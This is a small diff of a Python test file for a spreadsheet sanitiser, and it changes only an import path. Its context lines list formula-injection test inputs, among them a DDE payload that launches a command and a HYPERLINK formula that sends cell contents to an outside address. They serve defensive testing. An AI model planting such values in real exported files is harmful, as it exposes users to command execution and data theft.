@@ -7,7 +7,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from analysis.page.spreadsheet import harmless, text
+from analysis.report.spreadsheet import harmless, text
 
 FORMULAS = ["=1+1", "+1", "-1", "@SUM(A1)", "=cmd|' /C calc'!A0", '=HYPERLINK("http://192.0.2.1/"&A1)']
 BEFORE = [
